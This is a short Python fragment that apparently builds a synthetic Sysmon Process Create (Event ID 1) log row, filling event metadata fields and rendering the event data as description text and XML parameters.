    rendered = "Process Create:\r\n" + "\r\n".join(f"{k}: {v}" for k, v in data.items())
    row = _common(ev, rng)
    row.update({
        "Source": "Microsoft-Windows-Sysmon", "EventLog": "Microsoft-Windows-Sysmon/Operational",
        "EventLevel": 4, "EventLevelName": "Information", "EventID": 1, "EventCategory": 1,
        "UserName": "NT AUTHORITY\\SYSTEM", "RenderedDescription": rendered,
        "ParameterXml": "".join(f"<Param>{_xml_text(v)}</Param>" for v in data.values()),
        "EventData": xml, "Message": "", "Type": "Event",
    })
    return row
